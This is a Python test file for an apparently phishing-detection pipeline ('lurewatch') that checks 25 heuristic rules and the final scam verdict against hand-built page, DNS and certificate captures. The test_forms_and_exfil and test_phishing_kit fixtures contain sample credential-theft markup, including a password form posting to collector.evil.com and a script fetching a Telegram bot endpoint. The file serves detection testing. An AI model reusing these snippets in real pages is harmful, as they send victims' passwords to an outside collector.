"""Golden rows for the 25 rules and the verdict (defaults mirror the reference's test context)."""

import hashlib

from pyspark.sql import functions as F

from lurewatch.functions.dates import as_of_lit
from lurewatch.operators.verdict import classify, evaluate_rules
from lurewatch.plans.triage import Captures, build_context
from lurewatch.rules import RULE_ORDER, TEST_RULES

AS_OF = "2026-01-15 12:00:00"
NAMES = [n for n, _ in RULE_ORDER]


DEFAULT_DNS = [("A", 0, "1.2.3.4", 300, "NOERROR"), ("NS", 0, "ns1.example.com.", 300, "NOERROR")]


def make_many(spark, cases, rules=TEST_RULES):
    """One context for several cases (distinct hosts), built from capture tables holding every case's rows."""
    from lurewatch.operators import captures as cap
    http, dns_rows, ptr_rows, cert, rdap, fav, cname, ct = [], [], [], [], [], [], [], []
    hosts = [c["host"] for c in cases]
    assert len(set(hosts)) == len(hosts), "hosts of a batch must be distinct"
    for c in cases:
        host = c["host"]
        html = c.get("html", "")
        final_url = c.get("final_url", f"http://{host}")
        alt = c.get("alt_html")
        http.append((host, "primary", None, c.get("status", 200), c.get("headers") or {}, html, c.get("history") or [],
                     final_url, 0.0))
        http.append((host, "alternative", None, 200, {}, html if alt is None else alt, [], final_url, 0.0))
        if c.get("robots") is not None:
            http.append((host, "robots", None, 200, {}, c["robots"], [], final_url, 0.0))
        for q, pos, d, t, rc in (c["dns"] if c.get("dns") is not None else DEFAULT_DNS):
            dns_rows.append((host, host if not q.startswith("_") else "_dmarc." + host, q.lstrip("_"), pos, d, t, rc))
        ptr_rows.extend(c.get("ptr", ()))
        if c.get("cert") is not None:
            cert.append((host, c["cert"].get("body"), c["cert"].get("error")))
        if c.get("rdap") is not None:
            rdap.append((host, *c["rdap"]))
        if c.get("favicon") is not None:
            fav.append((host, *c["favicon"]))
        cname.extend(c.get("cname", ()))
        if c.get("ct") is not None:
            ct.append((host, *c["ct"]))
    caps = Captures(http=spark.createDataFrame(http, cap.HTTP_SCHEMA),
                    dns_records=spark.createDataFrame(dns_rows, cap.DNS_SCHEMA),
                    ptr_records=spark.createDataFrame(ptr_rows, cap.PTR_SCHEMA), rdap_key="host", ct_key="host")
    if cert:
        caps.cert = spark.createDataFrame(cert, cap.CERT_INPUT_SCHEMA)
    if rdap:
        caps.rdap = spark.createDataFrame(rdap, cap.RDAP_SCHEMA.format(key="host"))
    if fav:
        caps.favicon = spark.createDataFrame(fav, cap.FAVICON_SCHEMA)
    if cname:
        caps.cname_records = spark.createDataFrame(cname, cap.CNAME_SCHEMA)
    if ct:
        caps.ct = spark.createDataFrame(ct, cap.CT_SCHEMA.format(key="host"))
    return build_context(spark.createDataFrame([(h,) for h in hosts], "host string"), caps, rules)


def make(spark, host="phish-testbrand.com", rules=TEST_RULES, **kw):
    return make_many(spark, [dict(kw, host=host)], rules)


def _outcomes(row):
    out = {}
    for i, n in enumerate(NAMES, 1):
        r = row[f"__rule_{i:02d}"]
        out[n] = "scam" if r.scam else "benign" if r.benign else "suspicious" if r.suspicious else None
    return out


def results(ctx, rules=TEST_RULES):
    return _outcomes(evaluate_rules(ctx, rules, as_of_lit(AS_OF)).first())


def rule(spark, name, **kw):
    return results(make(spark, **kw))[name]


def rules_many(spark, name, cases):
    """Outcome of rule ``name`` for each case, evaluated in one job; cases without a host get a neutral one."""
    cases = [dict(c, host=c.get("host", f"c{i}-phish-testbrand.com")) for i, c in enumerate(cases)]
    rows = evaluate_rules(make_many(spark, cases), TEST_RULES, as_of_lit(AS_OF)).collect()
    by_host = {r.host: _outcomes(r)[name] for r in rows}
    return [by_host[c["host"]] for c in cases]


def test_forms_and_exfil(spark):
    got = rules_many(spark, "forms_and_exfil", [
        dict(html='<input type="password" name="pass"> <script>fetch("api.telegram.org/bot...")</script>'),
        dict(host="victim-brand.com",
             html='<form action="https://collector.evil.com/steal"><input type="password"></form>'),
        dict(html='<input name="ccnum"> mailto:x'),
        dict(html='<input type="password">'),
        dict(html="Please enter your 2fa code to continue."),
        dict(html="window.ethereum.enable()"),
        dict(html="Hello world"),
        dict(html='<form action="/local"></form> mailto:x')])
    assert got == ["scam", "scam", "scam", "suspicious", "suspicious", "suspicious", None, None]


def test_phishing_kit(spark):
    got = rules_many(spark, "phishing_kit", [
        dict(html="<!-- phishing kit by l33t phisher -->"), dict(html="tg://resolve?domain=scammer"),
        dict(html="<!-- by elite phisher -->"), dict(final_url="http://evil.com/owa/login"),
        dict(final_url="http://evil.com/home")])
    assert got == ["scam", "scam", "scam", "suspicious", None]


def test_favicon(spark):
    sha = hashlib.sha1(b"icon").hexdigest()
    rules = TEST_RULES.with_(favicon_hashes=(sha,))
    ctx = make_many(spark, [dict(host="evil.com", favicon=(200, b"icon")),
                            dict(host="testbrand.com", favicon=(200, b"icon")),
                            dict(host="other.com", favicon=(200, b"other"))], rules)
    got = {r.host: _outcomes(r)["favicon_brand_mismatch"]
           for r in evaluate_rules(ctx, rules, as_of_lit(AS_OF)).collect()}
    assert got == {"evil.com": "scam", "testbrand.com": None, "other.com": None}


def test_inactive(spark):
    got = rules_many(spark, "inactive_domain", [
        dict(status=404), dict(status=500), dict(status=301),
        # a DNS capture whose queries all came back without answers (no rows at all = no capture = neutral)
        dict(dns=[("A", 0, None, None, "NODATA")]),
        dict(dns=[("A", 0, None, None, "NOERROR"), ("_TXT", 0, None, None, "NXDOMAIN")]),
        dict()])
    assert got == ["benign"] * 5 + [None]


def test_parking_and_verified(spark):
    org = '{"subject":[[["organizationName","Acme Corp."]]]}'
    assert rules_many(spark, "parking_detect", [
        dict(html="DOMAIN FOR SALE"), dict(headers={"Server": "sedo parking"}),
        dict(html="Welcome to our website.")]) == ["benign", "benign", None]
    assert rules_many(spark, "long_lived_or_verified", [
        dict(cert={"body": org}), dict(cert={"body": org, "error": "timeout"}),
        dict(headers={"Strict-Transport-Security": "max-age=1"})]) == ["benign", None, "benign"]


def test_lookalike_punycode_tokens(spark):
    assert rules_many(spark, "brand_lookalike", [
        dict(host="testbr4nd.com"), dict(host="testbrand.com"), dict(host="testbran1.com"),
        dict(host="aaaabbbbccccddddeeeeffff.com")]) == ["suspicious"] * 3 + [None]
    assert rules_many(spark, "punycode", [
        dict(host="xn--dbs-abc.com"), dict(host="login.xn--dbs.com"),
        dict(host="evil-testbrand.com"), dict(host="")]) == ["suspicious", "suspicious", None, None]
    assert rules_many(spark, "forbidden_tokens", [
        dict(host="login-testbrand.com"), dict(html="please verify"),
        dict(html="Buy our products today.")]) == ["suspicious", "suspicious", None]


def test_cloaking(spark):
    assert rules_many(spark, "redirect_and_cloaking", [
        dict(history=[301, 302]), dict(html="word1 " * 200, alt_html="thing1 " * 200),
        dict(history=[301]), dict(html="short a", alt_html="short b")]) == ["suspicious", "suspicious", None, None]


def test_ages(spark):
    reg = '{"events":[{"eventAction":"registration","eventDate":"%s"}]}'
    assert rules_many(spark, "domain_age", [
        dict(rdap=(200, reg % "2026-01-05T12:00:00Z")), dict(rdap=(200, reg % "2025-11-16T12:00:00Z")),
        dict(rdap=(404, "")), dict(rdap=(200, '{"events":[]}'))]) == ["suspicious", None, None, None]
    nb = '{"notBefore":"%s"}'
    assert rules_many(spark, "cert_age", [
        dict(cert={"body": nb % "Jan  5 12:00:00 2026 GMT"}),
        dict(cert={"body": nb % "Dec 16 12:00:00 2025 GMT"}),  # exactly 30 days
        dict(cert={"body": nb % "garbage"})]) == ["suspicious", None, None]


def test_density_https_tld_title(spark):
    html = "testbrand " * 20 + "other " * 20
    few = "testbrand " * 2 + "word " * 198
    assert rules_many(spark, "brand_content_density", [
        dict(host="phishing.example.com", html=html), dict(host="app.testbrand.com", html=html),
        dict(host="phishing2.example.com", html=few)]) == ["suspicious", None, None]
    assert rules_many(spark, "https_login", [
        dict(html="<input TYPE='PASSWORD'>"),
        dict(html="<input type=password>", final_url="https://x.com")]) == ["suspicious", None]
    assert rules_many(spark, "suspicious_tld", [dict(host="evil.xyz"), dict(host="evil.io")]) == ["suspicious", None]
    t = "<title>TestBrand Online Banking</title>"
    assert rules_many(spark, "title_brand_mismatch", [
        dict(host="evil.com", html=t), dict(host="testbrand.com", html=t),
        dict(host="evil2.com", html="<title>Other page</title>"),
        dict(host="evil3.com", html="no title here testbrand")]) == ["suspicious", None, None, None]


def test_cname_ct(spark):
    assert rules_many(spark, "bulletproof_host", [
        dict(host="a-testbrand.com", cname=[("a-testbrand.com", "edge.bulletproof-host.net.")]),
        dict(host="b-testbrand.com", cname=[("b-testbrand.com", "cdn.example.net.")]),
        dict(host="c-testbrand.com")]) == ["suspicious", None, None]
    two = '[{"not_before":"2024-01-01"},{"entry_timestamp":"2023-06-15"}]'
    reg = '{"events":[{"eventAction":"registration","eventDate":"2026-01-10"}]}'
    many = "[" + ",".join('{"not_before":"2024-01-01"}' for _ in range(5)) + "]"
    assert rules_many(spark, "ct_history", [
        dict(ct=(200, '[{"not_before":"2024-01-01"}]')), dict(ct=(200, two), rdap=(200, reg)),
        dict(ct=(200, two)), dict(ct=(200, "[]")), dict(ct=(200, many))]) == ["suspicious", "suspicious",
                                                                              None, None, None]


def test_dns_rules(spark):
    five = [("A", i, f"1.2.3.{i}", 3600, "NOERROR") for i in range(5)]
    mx = [("A", 0, "1.2.3.4", 3600, "NOERROR"), ("MX", 0, "aspmx.l.google.com.", 3600, "NOERROR")]
    assert rules_many(spark, "dns_email_posture", [
        dict(dns=five), dict(dns=[("A", 0, "1.2.3.4", 60, "NOERROR")]),
        dict(dns=mx),  # MX and no DMARC
        dict(dns=[("A", 0, "1.2.3.4", 3600, "NOERROR")]),
        dict(dns=[("A", 0, "1.2.3.4", 3600, "NOERROR"), ("_TXT", 0, None, None, "NXDOMAIN")]),
        dict(dns=[("A", 0, "1.2.3.4", 3600, "NOERROR"), ("MX", 0, "mx.corp.example.", 3600, "NOERROR"),
                  ("TXT", 0, "v=spf1 +all", 3600, "NOERROR"), ("_TXT", 0, "v=DMARC1; p=reject", 3600, "NOERROR")]),
    ]) == ["suspicious", "suspicious", "suspicious", None, None, "suspicious"]
    assert rules_many(spark, "freemail_mx", [
        dict(dns=mx), dict(dns=[("MX", 0, "mx.corp.example.", 300, "NOERROR")]),
        dict(dns=[("NS", 0, "ns.example.", 300, "NOERROR")])]) == ["suspicious", None, None]
    assert rules_many(spark, "reverse_dns_mismatch", [
        # PTR rows are keyed by address, so the case with a PTR gets its own address
        dict(), dict(host="p-testbrand.com", dns=[("A", 0, "5.6.7.8", 300, "NOERROR")], ptr=[("5.6.7.8", "h.isp.net.")]),
        dict(dns=[("NS", 0, "ns.example.", 300, "NOERROR")])]) == ["suspicious", None, None]


def test_tls_depth_headers_robots(spark):
    cn = '{"subject":[[["commonName","testbrand-secure-login"]]]}'
    assert rules_many(spark, "tls_cert", [
        dict(host="phishing.example.com", cert={"body": cn}), dict(host="testbrand.com", cert={"body": cn}),
        dict(host="p2.example.com", cert={"body": '{"subject":[[["commonName","other"]]]}'}),
        dict(host="p3.example.com", cert={"body": cn, "error": "x"})]) == ["suspicious", None, None, None]
    assert rules_many(spark, "subdomain_depth", [dict(host="a.b.c"), dict(host="evil.com"), dict(host="")]) == \
        ["suspicious", None, None]
    all3 = {"content-security-policy": "x", "x-frame-options": "y", "x-content-type-options": "z"}
    assert rules_many(spark, "missing_security_headers", [
        dict(), dict(headers={"X-Frame-Options": "DENY"}), dict(headers=all3), dict(status=404)]) == \
        ["suspicious", None, None, None]
    assert rules_many(spark, "no_robots_txt", [
        dict(), dict(robots="User-agent: *"), dict(status=404),
        dict(dns=[("NS", 0, "ns.example.", 300, "NOERROR")])]) == ["suspicious", None, None, None]


def test_verdicts(spark):
    def verdict(**kw):
        return classify(make(spark, **kw), TEST_RULES, as_of_lit(AS_OF)).select("verdict", "tally").first()
    assert verdict(status=404).verdict == "benign"
    assert verdict(html='<input type="password"> mailto:x').verdict == "scam"
    v = verdict(host="login.testbr4nd.xyz", html="<title>TestBrand login</title><input type=password> verify")
    assert v.verdict == "scam" and v.tally >= 18
    assert verdict(host="plain-example.com", html="hello", robots="x",
                   headers={"x-frame-options": "a"}, ptr=[("1.2.3.4", "h.")]).verdict == "inconclusive"


def test_dns_snapshot_golden(spark):
    from lurewatch.operators import captures as cap
    rows = [("h", "h", "TXT", 0, "v=spf1 include:example.com ~all", 300, "NOERROR"),
            ("h", "h", "TXT", 1, "other", 300, "NOERROR"),
            ("h", "_dmarc.h", "TXT", 0, "v=DMARC1; p=none", 300, "NOERROR"),
            ("h", "h", "A", 0, "1.2.3.4", 600, "NOERROR"), ("h", "h", "AAAA", 0, "::1", 60, "NOERROR"),
            ("e", "e", "A", 0, "1.2.3.4", 600, "NOERROR"), ("e", "_dmarc.e", "TXT", 0, None, None, "NXDOMAIN")]
    snap = {r.host: r for r in cap.dns_snapshot(spark.createDataFrame(rows, cap.DNS_SCHEMA)).collect()}
    h, e = snap["h"], snap["e"]
    assert h.spf == ["v=spf1 include:example.com ~all"] and h.dmarc == ["v=DMARC1; p=none"]
    assert h.ttl_min == 60 and h.error is None
    assert e.a_records == [] and e.ttl_min is None and e.error is not None


def test_score_threshold_with_custom_registry(spark):
    from lurewatch.operators.heuristics import Rule, result
    from pyspark.sql import functions as G

    def flag(i, definitive=None):
        def outcome(ctx):
            fired = G.col("host").contains(f"f{i}")
            if definitive == "benign":
                return result(ctx, benign=fired)
            return result(ctx, suspicious=fired)
        return Rule(f"r{i}", 1, outcome)

    reg = tuple(flag(i) for i in range(5))
    df = spark.createDataFrame([("f0f1f2.com",), ("f0.com",), ("none.com",)], "host string")
    got = {r.host: (r.verdict, r.score) for r in classify(df, TEST_RULES, as_of_lit(AS_OF), reg).collect()}
    assert got["f0f1f2.com"] == ("scam", 0.6)
    assert got["f0.com"] == ("inconclusive", 0.2)
    assert got["none.com"] == ("inconclusive", 0.0)
    reg2 = (flag(9, "benign"),) + reg
    v = classify(df.where("host = 'f0f1f2.com'").selectExpr("'f9f0f1f2.com' AS host"), TEST_RULES,
                 as_of_lit(AS_OF), reg2).first()
    assert v.verdict == "benign" and v.decided_by == "r9"


def test_features_of_the_page_alone(spark):
    """An alternative page is compared by words and length; a page's patterns aren't looked for there, nor in robots.txt."""
    from lurewatch.plans.triage import http_pair_features
    body = "<title>Testbrand</title><input type='password'> verify"
    row = make_many(spark, [dict(host="a.com", html=body, alt_html=body, robots=body)]).select("primary.f", "alternative.f", "robots").first()
    mine, other = row[0], row[1]
    assert mine.password and not other.password and other.title_text == "" and not other.content_token_hit
    assert sorted(mine.token_set) == sorted(other.token_set) and mine.html_len == other.html_len == len(body) and row.robots == body
    assert "f" in http_pair_features(spark.createDataFrame([], "host string, variant string, url string, status int, headers map<string,string>, html string, history array<int>, final_url string, elapsed_ms double"),
                                     TEST_RULES).select("primary.f").columns


def test_equal_times_of_captures(spark):
    """Captures of one time: the same one is taken however the rows are ordered."""
    from lurewatch.operators import captures as cap
    rows = [("a.com", "primary", None, s, {"k": str(s)}, f"body {s}", [], "", 0.0) for s in (200, 404, 500, 301)] + [("a.com", "robots", None, 200, {}, f"robots {i}", [], "", 0.0) for i in range(4)]
    found = {str(cap.capture_pair(spark.createDataFrame(order, cap.HTTP_SCHEMA).repartition(n)).first()) for order in (rows, rows[::-1]) for n in (1, 4)}
    assert len(found) == 1


def test_lookalike_reads_the_idna_form(spark):
    from lurewatch.operators.heuristics import lookalike_best
    hosts = ["testbrand.com", "testbrandı.com", "teſtbrand.com"]
    rows = spark.createDataFrame([(h,) for h in hosts], "host string").select("host", lookalike_best(F.col("host"), F.lit(None).cast("string"), TEST_RULES).alias("b")).collect()
    found = {r.host: r.b for r in rows}
    assert found["teſtbrand.com"] == found["testbrand.com"]
    # xn--testbrand-1zb, not testbrandi, is what is compared
    coded = spark.createDataFrame([("testbrandı.com".encode("idna").decode(),)], "host string").select(lookalike_best(F.col("host"), F.lit(None).cast("string"), TEST_RULES).alias("b")).first().b
    assert found["testbrandı.com"] == coded
